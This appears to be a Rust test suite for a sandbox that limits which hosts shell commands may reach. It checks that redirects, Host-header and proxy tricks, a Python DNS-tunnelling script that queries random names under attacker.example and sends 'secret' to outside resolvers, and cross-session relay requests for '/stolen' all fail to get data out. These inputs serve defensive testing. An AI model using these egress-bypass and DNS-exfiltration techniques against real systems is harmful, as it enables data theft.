//! Attacks on the hosts of commands: other names in requests, redirects, names as a tunnel, and the
//! network of another session. The servers and the kernel's counters tell what has left.

use std::fs;
use std::process::Command;

use serde_json::json;
use toolhold_core::{Request, Session};

use super::{Ran, ran, run, scene, there_is, yes};
use crate::support::server::{Asked, Authority, Server, Wire, answer};
use crate::support::{Cli, Ended, Scene, not_tried};

/// Says hello, and closes the connection.
fn hello(_: &Asked, wire: &mut dyn Wire) -> std::io::Result<()> {
    answer(wire, "200 OK", &[("connection", "close")], b"hello")
}

/// A scene whose commands reach `hosts`. Every name below `test` resolves to this machine.
async fn granted(hosts: &[String]) -> Scene {
    let hosts = format!("tools.shell.hosts={hosts:?}");
    scene(
        &[
            &hosts,
            "tools.shell.allowed_commands=[\"curl\", \"wget\", \"nc\"]",
            "tools.shell.network=ask",
        ],
        |_| {},
    )
    .await
}

/// Programs that follow redirects. `URL` redirects.
const FOLLOWING: [(&str, &str); 5] = [
    ("curl", "curl -sSL --max-time 20 URL"),
    ("wget", "wget -q -T 20 -t 1 -O - URL"),
    (
        "python3",
        "/usr/bin/python3 -c 'import urllib.request as r; print(r.urlopen(\"URL\", timeout=20).read())'",
    ),
    ("node", "node -e 'fetch(\"URL\").then(r => r.text()).then(console.log)'"),
    ("git", "git -c http.followRedirects=true clone -q URL clone"),
];

#[tokio::test(flavor = "multi_thread")]
async fn redirect_leads_to_no_other_host() {
    let other = Server::plain(hello);
    let port = other.port();
    let places = [
        format!("http://other.test:{port}/"),
        format!("http://npm.test:{port}/"),
        format!("http://127.0.0.1:{port}/"),
        format!("http://[::1]:{port}/"),
        format!("http://[::ffff:127.0.0.1]:{port}/"),
        format!("http://0.0.0.0:{port}/"),
        format!("http://192.0.2.7:{port}/"),
    ];
    let server = Server::plain({
        let places = places.clone();
        move |asked, wire| {
            let index = asked.path().trim_start_matches('/').split('/').next();
            let place = index.and_then(|index| places.get(index.parse::<usize>().ok()?));
            let place = place.map_or("/", String::as_str);
            answer(wire, "302 Found", &[("location", place), ("connection", "close")], b"")
        }
    });
    let scene = granted(&[format!("http://npm.test:{}", server.port())]).await;
    for (program, form) in FOLLOWING.iter().filter(|(program, _)| there_is(program)) {
        for (index, place) in places.iter().enumerate() {
            let before = server.asked().len();
            let url = format!("http://npm.test:{}/{index}", server.port());
            let came = run(&scene, &form.replace("URL", &url)).await;
            assert!(came.code != 0 && !came.stdout.contains("hello"), "{program}: {came:?}");
            assert!(server.asked().len() > before, "{program}, {place}: {came:?}");
            assert_eq!(other.connections(), 0, "{program}, {place}");
        }
    }
}

/// Requests for another host to the granted one, as to a proxy and as to a server of several hosts.
/// `SERVER` is the granted host, `OTHER` another one.
const FOR_OTHERS: [&str; 6] = [
    "-H 'Host: OTHER' http://SERVER/",
    "--request-target http://OTHER/ http://SERVER/",
    "--proxy http://SERVER http://OTHER/",
    "--proxytunnel --proxy http://SERVER http://OTHER/",
    "--proxytunnel --proxy http://SERVER http://10.0.0.1:443/",
    "--http2-prior-knowledge -H 'Host: OTHER' http://SERVER/",
];

#[tokio::test(flavor = "multi_thread")]
async fn request_for_another_host_reaches_no_server() {
    if !there_is("curl") {
        return;
    }
    let authority = Authority::new();
    let tls = authority.server(&["npm.test", "other.test"], &[], |_| {});
    let (server, secure, other) =
        (Server::plain(hello), Server::tls(tls, hello), Server::plain(hello));
    let own = format!("npm.test:{}", server.port());
    let secure_port = secure.port();
    let scene =
        granted(&[format!("http://{own}"), format!("https://npm.test:{secure_port}")]).await;
    let curl =
        async |options: &str| run(&scene, &format!("curl -ksS --max-time 20 {options}")).await;

    assert_eq!(curl(&format!("http://{own}/")).await.stdout, "hello");
    assert_eq!(curl(&format!("https://npm.test:{secure_port}/")).await.stdout, "hello");
    for other in [format!("other.test:{}", other.port()), "other.test".to_owned()] {
        for options in FOR_OTHERS {
            let options = options.replace("SERVER", &own).replace("OTHER", &other);
            let came = curl(&options).await;
            assert!(!came.stdout.contains("hello"), "{options}: {came:?}");
        }
    }
    // The name in TLS is the one of the certificate, at the address of the granted name.
    let came = curl(&format!(
        "--connect-to other.test:{secure_port}:npm.test:{secure_port} https://other.test:{secure_port}/"
    ))
    .await;
    assert!(came.code != 0 && !came.stdout.contains("hello"), "{came:?}");
    let reached = (server.asked().len(), secure.asked().len(), other.connections());
    assert_eq!(reached, (1, 1, 0));
}

/// Looks up long random names with the system's functions and with own queries, and connects to
/// their addresses.
const TUNNEL: &str = r#"
import os, socket, sys
count, server = int(sys.argv[1]), ("127.0.0.1", 53)
udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
udp.settimeout(10)
answers = addresses = refused = 0
for number in range(count):
    labels = [os.urandom(30).hex() for _ in range(3)] + ["attacker", "example"]
    query = b"".join(bytes([len(label)]) + label.encode() for label in labels)
    kind = (1, 28, 16, 10, 255, 5, 15, 65)[number % 8]
    udp.sendto(b"\0\7\1\0\0\1\0\0\0\0\0\0" + query + b"\0\0" + bytes([kind]) + b"\0\1", server)
    answers += len(udp.recv(4096)) > 12
    if number % 50 == 0:
        name = ".".join(labels)
        addresses += socket.gethostbyname(name).startswith("198.1")
        try:
            with socket.create_connection((name, 80), 5) as one:
                one.sendall(f"GET /secret HTTP/1.1\r\nHost: {name}\r\n\r\n".encode())
                refused += one.recv(1000) == b""
        except (PermissionError, ConnectionResetError, BrokenPipeError):
            refused += 1
for address in ("8.8.8.8", "192.0.2.53", "198.18.0.1"):
    try:
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secret", (address, 53))
        print("sent to", address)
    except OSError:
        pass
print("answers", answers, "addresses", addresses, "refused", refused)
"#;

#[test]
fn soak_names_as_a_tunnel_send_no_packet() {
    if !there_is("python3") || !there_is("unshare") {
        return;
    }
    let lookups: u32 = if std::env::var_os("TOOLHOLD_SOAK").is_some() { 100_000 } else { 1000 };
    let cli = Cli::new();
    cli.configure(
        "[tools]\ncall = 300\n\
         [tools.shell]\nallowed_commands = [\"/usr/bin/python3 tunnel.py\"]\n\
         network = \"ask\"\nhosts = [\"granted.example\"]\n",
    );
    fs::write(cli.work().join("tunnel.py"), TUNNEL).expect("it is written");
    let line = format!("command=/usr/bin/python3 tunnel.py {lookups}");
    let toolhold = cli.command(&["call", "bash", &line, "timeout=280"]);
    // In a network of its own, the counters of the kernel are those of this host alone.
    let count = "grep -E '^(Ip|Udp|Tcp):' /proc/net/snmp";
    let mut alone = Command::new("unshare");
    alone.args(["--user", "--map-root-user", "--net", "sh", "-c"]);
    alone.arg(format!("{count}; \"$@\"; {count}")).arg("sh").arg(toolhold.get_program());
    alone.args(toolhold.get_args()).current_dir(cli.work()).env_clear();
    alone.envs(toolhold.get_envs().filter_map(|(name, value)| Some((name, value?))));
    alone.env("PATH", "/usr/bin:/bin");
    let ended = alone.output().expect("unshare starts");
    if String::from_utf8_lossy(&ended.stderr).contains("unshare failed") {
        return not_tried("user namespaces");
    }
    let Ended { code, stdout, stderr } = Ended::from_output(ended);
    let names = lookups.div_ceil(50);
    let expected = format!("answers {lookups} addresses {names} refused {names}");
    assert!(code == 0 && stdout.contains(&expected), "{stdout}{stderr}");
    assert!(!stdout.contains("sent to"), "{stdout}");
    let counters: Vec<&str> = stdout
        .lines()
        .filter(|line| ["Ip:", "Udp:", "Tcp:"].iter().any(|name| line.starts_with(name)))
        .collect();
    let (before, after) = counters.split_at(counters.len() / 2);
    assert!(before.len() >= 3, "{stdout}");
    assert_eq!(before, after, "no packet has left");
}

/// Prints the address of the granted name, and the ports at which its network is served.
const SERVED: &str = r#"
import socket
print(socket.gethostbyname("npm.test"))
for line in open("/proc/net/tcp").read().splitlines()[1:]:
    local, state = line.split()[1], line.split()[3]
    if state == "0A":
        print(int(local.split(":")[1], 16))
"#;

/// Sends a request for the granted host to each address and port, without a lookup.
const ASK: &str = r#"
import socket, sys
host = sys.argv[1]
for place in sys.argv[2:]:
    address, port = place.split("/")
    try:
        s = socket.create_connection((address, int(port)), 3)
        s.sendall(b"GET /stolen HTTP/1.1\r\nhost: " + host.encode() + b"\r\n\r\n")
        print(place, s.recv(100))
    except OSError as error:
        print(place, error)
"#;

async fn run_in(scene: &Scene, session: &Session, command: &str) -> Ran {
    let answer = scene
        .host
        .call(Request {
            session: Some(session.clone()),
            approver: Some(yes()),
            ..Request::new("bash", json!({ "command": command }))
        })
        .await;
    ran(&answer).unwrap_or_else(|| panic!("{command}: {:?}", answer.outcome))
}

#[tokio::test(flavor = "multi_thread")]
async fn relay_of_another_session_is_not_reached() {
    if !there_is("python3") || !there_is("curl") {
        return;
    }
    let server = Server::plain(hello);
    let host = format!("npm.test:{}", server.port());
    let scene = granted(&[format!("http://{host}")]).await;
    for (file, text) in [("served.py", SERVED), ("ask.py", ASK)] {
        fs::write(scene.granted.join(file), text).expect("it is written");
    }
    let [one, other] = ["one", "other"].map(Session::new);
    let curl = format!("curl -sS --max-time 20 http://{host}/");
    assert_eq!(run_in(&scene, &one, &curl).await.stdout, "hello");
    let served = run_in(&scene, &one, "/usr/bin/python3 served.py").await.stdout;
    let mut lines = served.lines();
    let address = lines.next().expect("it has an address").to_owned();
    let mut places: Vec<String> = lines.map(|port| format!("127.0.0.1/{port}")).collect();
    assert!(address.starts_with("198.18.") && places.len() >= 2, "{served}");
    // Neither a session that has looked up the name nor one that hasn't is served without the gate.
    let ask = |places: &[String]| format!("/usr/bin/python3 ask.py {host} {}", places.join(" "));
    for session in [&one, &other] {
        let came = run_in(&scene, session, &ask(&places)).await;
        assert!(!came.stdout.contains("hello"), "{came:?}");
    }
    // The address stands for the name in the first session only.
    places = vec![format!("{address}/{}", server.port())];
    let came = run_in(&scene, &other, &ask(&places)).await;
    assert!(came.stdout.contains("Permission denied"), "{came:?}");
    let paths: Vec<String> = server.asked().iter().map(|asked| asked.path().to_owned()).collect();
    assert_eq!(paths, ["/"]);
    // It does serve the other session, too.
    assert_eq!(run_in(&scene, &other, &curl).await.stdout, "hello");
}
